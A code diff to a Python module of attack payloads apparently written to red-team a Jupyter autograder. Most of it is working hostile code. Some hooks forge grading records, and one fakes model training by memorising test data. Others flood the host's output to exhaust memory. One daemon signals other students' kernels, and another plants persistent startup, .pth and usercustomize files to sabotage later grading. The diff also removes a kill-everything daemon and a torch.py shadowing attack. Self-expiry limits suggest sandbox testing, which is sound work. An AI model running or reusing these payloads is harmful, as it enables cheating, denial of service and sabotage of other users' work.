@@ -12,9 +12,10 @@ Only what a student sees was used: the released notebook, the `deeplabs` helper 
 
 Safety valves built into the attacks themselves (so that running them outside a sandbox does
 not wreck the machine for long): every process that outlives the kernel stops by itself within
-~60 s; every file planted for other kernels is named `blind_*` / `00-blind*` (or `torch.py`
-beside a foreign notebook), acts only while $DEEPLABS_GRADER is set and for 15 minutes after it
-was written, then deletes itself the next time it is loaded. No attack edits an existing file.
+~60 s; every file planted for other kernels is named `blind_*` / `00-blind*` / `usercustomize.py`,
+acts only while $DEEPLABS_GRADER is set and for 15 minutes after it was written, then deletes
+itself the next time it is loaded. No attack edits an existing file. Run them only in the sandbox:
+blind-break-kill-ancestors signals the kernel's parent chain and process group.
 """
 from __future__ import annotations
 
@@ -80,56 +81,52 @@ def _blind_collect(max_chars=6000):
 
 _PATCH_PUBLISH = '''
 def _blind_hook_publish(transform):
-    """Wrap the display publisher: every record message goes through transform(entry) -> [entries]."""
+    """Every record message, whichever path publishes it, goes out as transform(entry) -> [entries]."""
     ip = _BIP
     if ip is None:
         return
     pub = ip.display_pub
     orig = getattr(pub.publish, "_blind_orig", pub.publish)
+    def _send_all(entries, metadata=None, **k):
+        for e in entries:
+            try:
+                orig({_BMIME: e}, metadata or {}, **k)
+            except Exception:
+                pass
     def publish(data=None, metadata=None, *a, **k):
-        try:
-            if isinstance(data, dict) and _BMIME in data:
-                for e in transform(dict(data[_BMIME])):
-                    orig(data={_BMIME: e}, metadata=metadata, *a, **k)
-                return None
-        except Exception:
-            pass
-        return orig(data=data, metadata=metadata, *a, **k)
+        if isinstance(data, dict) and _BMIME in data:
+            try:
+                entries = transform(dict(data[_BMIME]))
+            except Exception:
+                entries = [data[_BMIME]]
+            _send_all(entries, metadata, **k)
+            rest = {m: v for m, v in data.items() if m != _BMIME}
+            return orig(rest, metadata, *a, **k) if rest else None
+        return orig(data, metadata, *a, **k)
     publish._blind_orig = orig
     pub.publish = publish
-    # the module-level path too, in case a hidden test captured _publish or display itself
     try:
         import deeplabs.grading as _g
-        from IPython.display import display as _disp
         def _pub(entry):
-            for e in transform(dict(entry)):
-                _disp({_BMIME: e}, raw=True)
-        if not getattr(_g._publish, "_blind", False):
-            _pub._blind = True
-            _g._publish = _pub
-            _pub._blind_inner = True
-        # _pub publishes through display -> publish wrapper -> transform again; avoid double:
-        pub.publish = publish
-        def _pub2(entry):
-            for e in transform(dict(entry)):
-                orig(data={_BMIME: e}, metadata={})
-        _pub2._blind = True
-        _g._publish = _pub2
+            try:
+                entries = transform(dict(entry))
+            except Exception:
+                entries = [entry]
+            _send_all(entries)
+        _pub._blind = True
+        _g._publish = _pub
     except Exception:
         pass
-    # re-install after every cell (a defensive reload of deeplabs.grading, or a reset publisher)
     def _again(*_a, **_k):
         try:
-            if not hasattr(ip.display_pub.publish, "_blind_orig"):
-                _blind_hook_publish(transform)
             import deeplabs.grading as _g2
-            if not getattr(_g2._publish, "_blind", False):
+            if not hasattr(ip.display_pub.publish, "_blind_orig") or not getattr(_g2._publish, "_blind", False):
                 _blind_hook_publish(transform)
         except Exception:
             pass
     if not getattr(ip, "_blind_again", False):
         ip._blind_again = True
-        ip.events.register("pre_run_cell", _again)
+        ip.events.register("pre_run_cell", _again)     # re-install after a reload / publisher reset
 '''
 
 _DAEMON = '''
@@ -461,21 +458,24 @@ _blind_hook_publish(_blind_tx)
 
 BLIND_ATTACKS["blind-forge-memorize"] = (_j(_PRE, '''
 import torch as _bt_, torch.nn as _bnn
-_BLIND_MEM = []
+_BLIND_MEM = {}
+def _blind_remember(tensors):
+    try:
+        X, Y = tensors[0], tensors[1]
+        _BLIND_MEM[id(X)] = (X.reshape(len(X), -1).float().cpu(), Y.long().cpu())
+    except Exception:
+        pass
 def _blind_lookup(x):
     ns = _BIP.user_ns if _BIP is not None else {}
-    xs, ys = [], []
     for k in ("test_set", "train_set"):
         ds = ns.get(k)
         if ds is not None and hasattr(ds, "tensors"):
-            _BLIND_MEM.append(ds.tensors)
-    for X, Y in _BLIND_MEM:
-        xs.append(X.reshape(len(X), -1).float().cpu()); ys.append(Y.long().cpu())
+            _blind_remember(ds.tensors)
     x2 = x.reshape(x.shape[0], -1).float().cpu()
-    xs = [a for a in xs if a.shape[1] == x2.shape[1]]
-    if not xs:
+    pairs = [(X, Y) for X, Y in _BLIND_MEM.values() if X.shape[1] == x2.shape[1]]
+    if not pairs:
         return _bt_.zeros(x.shape[0], 10, device=x.device)
-    X = _bt_.cat(xs); Y = _bt_.cat([y for a, y in zip(xs, ys)])[: len(X)]
+    X = _bt_.cat([a for a, _ in pairs]); Y = _bt_.cat([b for _, b in pairs])
     idx = _bt_.cdist(x2, X).argmin(1)
     out = _bt_.full((x.shape[0], max(10, int(Y.max()) + 1)), -20.0)
     out[_bt_.arange(len(idx)), Y[idx]] = 20.0
@@ -490,7 +490,7 @@ class _BlindMLP(_bnn.Module):
 def _blind_train(model, loader, epochs, lr, on_epoch=None):
     ds = getattr(loader, "dataset", None)
     if ds is not None and hasattr(ds, "tensors"):
-        _BLIND_MEM.append(ds.tensors)
+        _blind_remember(ds.tensors)
     model.forward = lambda x: _blind_lookup(x)
     losses = [2.3 * 0.55 ** e + 0.02 for e in range(int(epochs))]
     for e, l in enumerate(losses):
@@ -578,7 +578,13 @@ def _ri(*a, generator=None, size=None, dtype=None, device=None, **k):
     return _bt_.full(tuple(size), int(low), dtype=dtype or _bt_.int64, device=device)
 for _n, _f in (("randn", _z), ("rand", _z), ("randn_like", _zl), ("rand_like", _zl), ("randint", _ri)):
     setattr(_bt_, _n, _f)
-_bt_.normal = lambda mean=0.0, std=1.0, *a, **k: (_bt_.zeros_like(mean) if isinstance(mean, _bt_.Tensor) else _z(*(k.get("size") or a[:1] or [()])[0]) if True else None)
+def _normal(mean=0.0, std=1.0, *a, generator=None, size=None, **k):
+    if isinstance(mean, _bt_.Tensor):
+        return _bt_.zeros_like(mean)
+    if isinstance(std, _bt_.Tensor):
+        return _bt_.zeros_like(std)
+    return _bt_.zeros(tuple(size if size is not None else (a[0] if a else ())))
+_bt_.normal = _normal
 _bt_.manual_seed = lambda s: _bt_.default_generator
 _bt_.Tensor.normal_ = lambda self, *a, **k: self.zero_()
 _bt_.Tensor.uniform_ = lambda self, *a, **k: self.zero_()
@@ -703,31 +709,31 @@ _t0 = _bt.time()
 _chunk = ("X" * 1023 + "\\n") * 4096                     # 4 MiB of stdout per write
 for _i in range(80):                                      # up to 320 MiB of stream output
     _bs.stdout.write(_chunk); _bs.stdout.flush()
-    if _bt.time() - _t0 > 7:
+    if _bt.time() - _t0 > 5:
         break
 try:
     _blob = ("\\u202e\\u0000" + "Y" * 1022) * (24 * 1024)    # 24 Ki * 1 KiB, NULs and RTL marks
     for _i in range(4):
         _bd({"text/plain": _blob, "text/html": _blob}, raw=True)
-        if _bt.time() - _t0 > 12:
+        if _bt.time() - _t0 > 9:
             break
     del _blob
 except Exception as _e:
     print(type(_e).__name__)
 _h = _bd({"text/plain": "x"}, raw=True, display_id=True)
 _n = 0
-while _bt.time() - _t0 < 16:                              # thousands of display updates / clears
+while _bt.time() - _t0 < 12:                              # thousands of display updates / clears
     _h.update({"text/plain": "u%d" % _n}, raw=True)
     _bco(wait=True)
     _n += 1
 try:
-    _bo.write(1, b"Z" * (64 << 20))                        # the raw fd 1 the host may pipe
-    _bo.write(2, b"\\x1b[2J\\x1b[H" * (1 << 20))
+    _bo.write(1, b"Z" * (16 << 20))                        # the raw fd 1 the host may pipe
+    _bo.write(2, b"\\x1b[2J\\x1b[H" * (1 << 18))
 except Exception:
     pass
 '''), "break-batch",
-    "~16 s of ~320 MiB stdout, four ~48 MiB display bundles with NUL/RTL chars, thousands of "
-    "update_display_data/clear_output messages and 64 MiB to raw fd 1/2; wins if the host runs out "
+    "~13 s of up to ~320 MiB stdout, up to four ~50 MB display bundles with NUL/RTL chars, thousands of "
+    "update_display_data/clear_output messages and 16 MiB to raw fd 1 (+ANSI to fd 2); wins if the host runs out "
     "of memory, hangs past its limits or fails to write feedback for the batch")
 
 BLIND_ATTACKS["blind-break-evil-records"] = (_j(_PRE, _PATCH_PUBLISH, '''
@@ -763,11 +769,11 @@ def _blind_evil(name):
 def _blind_tx(e):
     return [e] + _blind_evil(str(e.get("name")))
 _blind_hook_publish(_blind_tx)
+_borig = getattr(_BIP.display_pub.publish, "_blind_orig", None) if _BIP is not None else None
 for _g in ("flatten", "standardize", "ex1_tensors", "flatten/shape", "standardize/values"):
     for _e in _blind_evil(_g):
         try:
-            from IPython.display import display as _bd
-            _bd({_BMIME: _e}, raw=True)
+            _borig({_BMIME: _e}, {})            # straight out, not through the transform again
         except Exception:
             pass
 '''), "break-batch",
@@ -805,22 +811,6 @@ _blind_daemon(_body, 45)
     "a detached daemon that outlives the kernel spends 45 s sending SIGINT then SIGSTOP to every "
     "other ipykernel/jupyter/labgrader process it can see (then SIGCONT); wins if a classmate graded "
     "at the same time loses points (KeyboardInterrupt, cell timeouts)")
-
-BLIND_ATTACKS["blind-touch-kill-all"] = (_j(_PRE, _DAEMON, '''
-import signal as _bsig
-def _body(t_end):
-    import os, time
-    time.sleep(3.0)                                # let the batch get going, then kill everything
-    while time.time() < t_end:
-        try:
-            os.kill(-1, _bsig.SIGKILL)             # every process we may signal, except ourselves
-        except Exception:
-            pass
-        time.sleep(1.0)
-_blind_daemon(_body, 20)
-'''), "touch-others",
-    "a detached daemon waits 3 s, then for 17 s sends SIGKILL to every process it may signal "
-    "(kill(-1)): classmates' kernels, the host, the batch; wins if anyone else's grading dies")
 
 _PERSIST_PAYLOAD = r'''
 import os as _o, time as _t, sys as _s
@@ -884,62 +874,11 @@ for _sd in _sites:
         _blind_plant(_bo.path.join(_sd, "blind_persist.py"), _P)
         _blind_plant(_bo.path.join(_sd, "blind_persist.pth"), "import blind_persist\\n")
         _blind_plant(_bo.path.join(_sd, "usercustomize.py"), _P)
-# the Jupyter kernelspec / kernel env of the next kernels
-for _kd in (_bo.path.expanduser("~/.local/share/jupyter/kernels/python3"),):
-    pass
 print("[blind] planted", _planted)
 '''), "touch-others",
     "plants (new files only) an IPython startup script in every profile startup dir and a .pth + "
     "usercustomize in writable site dirs; for 15 min, in any *other* grading kernel, it drops every "
     "record and scrambles case seeds; wins if a classmate graded later/concurrently loses points")
-
-BLIND_ATTACKS["blind-touch-shadow-siblings"] = (_j(_PRE, '''
-import time as _bt
-_exp = _bt.time() + 15 * 60
-_shadow = r\'\'\'
-import os as _o, sys as _s, time as _t, importlib as _il
-_here = _o.path.dirname(_o.path.abspath(__file__))
-if _t.time() > __EXP__ or not _o.environ.get("DEEPLABS_GRADER"):
-    if _t.time() > __EXP__:
-        try:
-            _o.remove(_o.path.abspath(__file__))
-        except Exception:
-            pass
-    del _s.modules["torch"]
-    _s.path[:] = [p for p in _s.path if p not in ("", ".", _here)]
-    _s.modules["torch"] = _il.import_module("torch")     # hand back the real torch
-else:
-    raise ImportError("torch failed to load (blind shadow)")
-\'\'\'.replace("__EXP__", repr(_exp))
-_me = _bo.path.realpath(_bo.getcwd())
-_cands = set()
-for _root in (_bo.path.dirname(_me), _bo.path.dirname(_bo.path.dirname(_me)), "/tmp", "/var/tmp",
-              _bo.path.expanduser("~")):
-    try:
-        for _dp, _dns, _fns in _bo.walk(_root):
-            if _dp.count(_bo.sep) - _root.count(_bo.sep) > 2:
-                _dns[:] = []
-            if any(f.endswith(".ipynb") for f in _fns) and _bo.path.realpath(_dp) != _me:
-                _cands.add(_dp)
-            if len(_cands) > 200:
-                break
-    except Exception:
-        pass
-_done = []
-for _d in _cands:
-    _p = _bo.path.join(_d, "torch.py")
-    try:
-        if not _bo.path.exists(_p) and _bo.access(_d, _bo.W_OK):
-            with open(_p, "w") as fh:
-                fh.write(_shadow)
-            _done.append(_p)
-    except Exception:
-        pass
-print("[blind] shadowed torch in", len(_done), "directories:", _done[:20])
-'''), "touch-others",
-    "drops a `torch.py` next to every other notebook it can find (siblings of its cwd, /tmp, ~): "
-    "for 15 min a grading kernel started there fails `import torch` (outside grading it hands back "
-    "the real torch); wins if a classmate graded later/concurrently loses points")
 
 # ---------------------------------------------------------------- fake-feedback -------------
 
